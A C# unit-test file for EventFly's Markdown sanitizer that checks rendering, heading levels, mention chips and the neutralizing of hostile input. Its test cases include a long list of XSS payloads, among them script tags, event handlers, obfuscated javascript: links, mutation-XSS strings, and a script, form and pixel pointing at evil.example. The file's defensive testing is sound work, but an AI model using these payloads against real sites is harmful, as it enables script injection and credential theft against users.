using System.Text.RegularExpressions;
using EventFly.Core.Kernel;
using EventFly.Infrastructure.Markdown;

namespace EventFly.Infrastructure.Tests.Markdown;

public sealed partial class SanitizedMarkdownTests
{
    private readonly SanitizedMarkdown _markdown = new();

    [Fact]
    public void What_people_use_survives() =>
        _markdown
            .ToHtml("# Doors at **18:00**\n\n- bring a [ticket](https://example.org/t \"yours\")\n- or `code`")
            .ShouldSatisfyAllConditions(
                html => html.ShouldContain("<h3>Doors at <strong>18:00</strong></h3>"),
                html => html.ShouldContain("href=\"https://example.org/t\""),
                html => html.ShouldContain("rel=\"nofollow ugc noopener\""),
                html => html.ShouldContain("<code>code</code>")
            );

    [Theory]
    [InlineData(">")]
    [InlineData("[")]
    [InlineData("- ")]
    [InlineData("![")]
    [InlineData("*a _b ")]
    [InlineData("1. ")]
    public void What_lies_too_deep_in_itself_is_shown_flat(string nesting)
    {
        var html = _markdown.ToHtml(string.Concat(Enumerable.Repeat(nesting, 1_500)) + "x<script>");

        html.ShouldContain("x");
        html.ShouldNotContain("<script>");
    }

    [Theory]
    [InlineData("### Small first\n\n# Large\n\n###### Tiny", "334")]
    [InlineData("## Parking\n\ntext\n\n## Food", "33")]
    [InlineData("# One\n\n## Two\n\n# One", "343")]
    public void Headings_leave_no_hole_in_the_outline_of_the_page(string markdown, string levels)
    {
        var found = Regex.Matches(_markdown.ToHtml(markdown), "<h([1-6])").Select(m => m.Groups[1].Value);

        string.Concat(found).ShouldBe(levels);
    }

    [Fact]
    public void Bare_addresses_become_links() =>
        _markdown.ToHtml("See https://example.org/a?b=1").ShouldContain("<a href=\"https://example.org/a?b=1\"");

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//evil.example/x.js></sCrIpT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><animate onbegin=alert(1)>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<div style=\"background:url(javascript:alert(1))\">x</div>")]
    [InlineData("<style>@import 'https://evil.example'</style>")]
    [InlineData("<form action=https://evil.example><input name=password></form>")]
    [InlineData("<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<base href=https://evil.example/><meta http-equiv=refresh content=0>")]
    [InlineData("<details open ontoggle=alert(1)>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](java\tscript:alert(1))")]
    [InlineData("[x](\u0001javascript:alert(1))")]
    [InlineData("[x](<java\nscript:alert(1)>)")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x](https://evil.example/pixel.gif)")]
    [InlineData("![x](x\" onerror=\"alert(1))")]
    [InlineData("[x](https://a.example \"t\\\" onmouseover=\\\"alert(1)\")")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
    [InlineData("```html\" onclick=alert(1)\n<script>alert(1)</script>\n```")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <b onclick=alert(1)> | [y](javascript:x) |")]
    public void What_attacks_readers_does_not(string attack)
    {
        var html = _markdown.ToHtml(attack);

        Elements().Matches(html).Select(m => m.Groups[1].Value).ShouldBeSubsetOf(Harmless);
        foreach (Match tag in Tags().Matches(html))
        {
            Attributes().Matches(tag.Value).Select(m => m.Groups[1].Value).ShouldBeSubsetOf(Kept);
            tag.Value.ShouldNotMatch("(?i)script:|data:|vbscript|evil\\.example");
        }
    }

    [Fact]
    public void A_mention_is_shown_as_a_chip_with_the_name_of_today()
    {
        var olena = AccountId.New();

        var html = _markdown.ToHtml($"Ask @{{{olena.Value:n}}}!", People(olena, "Olena"));

        html.Trim().ShouldBe("<p>Ask <span class=\"ef-mention\">@Olena</span>!</p>");
    }

    [Theory]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("\" onmouseover=\"alert(1)")]
    [InlineData("</span><script>alert(1)</script>")]
    [InlineData("[x](javascript:alert(1))")]
    public void A_name_cannot_attack(string name)
    {
        var id = AccountId.New();
        foreach (
            var around in new[] { "{0}", "[{0}](https://example.org/{0} \"{0}\")", "**{0}**", "`{0}`", "![{0}](x)" }
        )
        {
            var token = $"@{{{id.Value:n}}}";
            var html = _markdown.ToHtml(around.Replace("{0}", token, StringComparison.Ordinal), People(id, name));

            Elements().Matches(html).Select(m => m.Groups[1].Value).ShouldBeSubsetOf([.. Harmless, "span"]);
            foreach (Match tag in Tags().Matches(html))
            {
                Attributes().Matches(tag.Value).Select(m => m.Groups[1].Value).ShouldBeSubsetOf([.. Kept, "class"]);
            }
        }
    }

    [Theory]
    [InlineData("<span class=\"ef-mention\">@Olena</span>")]
    [InlineData("``` ef-mention\nx\n```")]
    public void Nobody_writes_a_chip_by_hand(string attempt) =>
        _markdown.ToHtml(attempt).ShouldNotContain("<span class=\"ef-mention\"");

    [Fact]
    public void A_token_of_nobody_here_is_a_dash() =>
        _markdown.ToHtml($"@{{{Guid.CreateVersion7():n}}}").ShouldContain("@–");

    private static Dictionary<AccountId, string> People(AccountId id, string name) => new() { [id] = name };

    private static readonly string[] Harmless =
    [
        .. "p br hr h3 h4 h5 h6 ul ol li blockquote pre code em strong del ins a table thead tbody tr th td".Split(' '),
    ];

    private static readonly string[] Kept = ["href", "title", "rel", "start"];

    [GeneratedRegex("<([a-z0-9]+)")]
    private static partial Regex Elements();

    [GeneratedRegex("<[a-z][^>]*>")]
    private static partial Regex Tags();

    [GeneratedRegex("\\s([a-z-]+)=\"[^\"]*\"")]
    private static partial Regex Attributes();
}
